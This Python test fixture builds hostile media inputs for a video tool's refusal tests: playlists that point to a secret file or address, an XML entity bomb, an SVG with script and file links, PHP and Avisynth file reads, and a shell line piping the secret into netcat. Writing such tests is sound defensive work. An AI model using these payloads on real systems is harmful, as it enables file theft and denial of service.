"""Texts that programs obey: playlists, pages, scripts, subtitles. Those that can name a file name the secret one."""

from collections.abc import Callable
from pathlib import Path

from tests.media.hostile.traps import Trap

Text = Callable[[Trap], str]

HLS = "#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\n{0}\n#EXT-X-ENDLIST\n"
PLAYLIST = "This is a playlist that points to other files"
TEXT = "This is a text file"
FOREIGN = "This is not a video file that Maskloop reads"

XML_BOMB = (
    '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(12))
    + "]><l>&m;</l>"
)
SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><script>alert(1)</script>'
    '<image xlink:href="file://{0}"/><image xlink:href="{1}"/></svg>'
)
MPD = '<?xml version="1.0"?><MPD><Period><BaseURL>file://{0}</BaseURL></Period></MPD>'
SDP = "v=0\no=- 0 0 IN IP4 127.0.0.1\nc=IN IP4 127.0.0.1\nm=video {0} RTP/AVP 96\na=rtpmap:96 H264/90000\n"
XSPF = '<?xml version="1.0"?><playlist xmlns="http://xspf.org/ns/0/"><track><location>{0}</location></track></playlist>'

TEXTS: dict[str, tuple[Text, str]] = {
    "HLS that names a file": (lambda trap: HLS.format(f"file://{trap.secret}"), PLAYLIST),
    "HLS that names a path": (lambda trap: HLS.format(trap.secret), PLAYLIST),
    "HLS that names an address": (lambda trap: HLS.format(trap.url), PLAYLIST),
    "HLS with a key from an address": (
        lambda trap: f'#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="{trap.url}"\n#EXTINF:1,\n{trap.secret}\n',
        PLAYLIST,
    ),
    "HLS that joins what it reads into an address": (
        lambda trap: HLS.format(f"concat:{trap.url}|file://{trap.secret}"),
        PLAYLIST,
    ),
    "HLS with subfile": (lambda trap: HLS.format(f"subfile,,start,0,end,64,,:{trap.secret}"), PLAYLIST),
    "HLS after a byte order mark": (lambda trap: "\ufeff" + HLS.format(trap.secret), PLAYLIST),
    "HLS after many empty lines": (lambda trap: "\n" * 5000 + HLS.format(trap.secret), TEXT),
    "HLS in capitals and spaces": (lambda trap: "  \t#extM3U\n" + str(trap.secret), PLAYLIST),
    "concat list": (lambda trap: f"ffconcat version 1.0\nfile {trap.secret}\n", PLAYLIST),
    "concat list without its first line": (lambda trap: f"file '{trap.secret}'\n" * 3, TEXT),
    "DASH": (lambda trap: MPD.format(trap.secret), PLAYLIST),
    "SMIL": (lambda trap: f'<smil><body><video src="{trap.url}"/></body></smil>', PLAYLIST),
    "SMIL with a declaration": (lambda trap: f'<?xml version="1.0"?><smil><video src="{trap.url}"/></smil>', PLAYLIST),
    "ASX": (lambda trap: f'<ASX version="3.0"><Entry><Ref href="{trap.url}"/></Entry></ASX>', PLAYLIST),
    "PLS": (lambda trap: f"[playlist]\nFile1={trap.secret}\nNumberOfEntries=1\n", PLAYLIST),
    "XSPF": (lambda trap: XSPF.format(trap.url), TEXT),
    "a bare address": (lambda trap: trap.url, TEXT),
    "a bare path": (lambda trap: str(trap.secret), TEXT),
    "SDP": (lambda trap: SDP.format(trap.port), TEXT),
    "QuickTime's text link": (lambda trap: f"RTSPtext\nrtsp://127.0.0.1:{trap.port}/x.mov", TEXT),
    "Avisynth script": (lambda trap: f'AVISource("{trap.secret}")', TEXT),
    "filter graph": (lambda trap: f"movie={trap.secret}[out0]", TEXT),
    "subtitles that draw": (lambda _: "1\n00:00:00,000 --> 99:59:59,999\n{\\p1}m 0 0 l 99999999 0{\\p0}\n" * 200, TEXT),
    "styled subtitles": (
        lambda trap: f"[Script Info]\nScriptType: v4.00+\n[Fonts]\nfontname: {trap.secret}\n[Events]\n",
        TEXT,
    ),
    "page with a script": (lambda trap: f"<!DOCTYPE html><script src='{trap.url}'></script>", TEXT),
    "SVG": (lambda trap: SVG.format(trap.secret, trap.url), TEXT),
    "XML bomb": (lambda _: XML_BOMB, TEXT),
    "shell script": (lambda trap: f"#!/bin/sh\ncat {trap.secret} | nc 127.0.0.1 {trap.port}\n", TEXT),
    "PHP": (lambda trap: f"<?php readfile('{trap.secret}'); ?>", TEXT),
    "metadata file": (lambda trap: f";FFMETADATA1\ntitle={trap.secret}\n", TEXT),
    "Y4M header": (lambda _: "YUV4MPEG2 W99999 H99999 F25:1\nFRAME\n", TEXT),
}
"""What each is, and the sentence that it is refused with."""


def write_text(text: Text) -> Callable[[Path, Trap], Path]:
    def make(path: Path, trap: Trap) -> Path:
        path.write_text(text(trap))
        return path

    return make
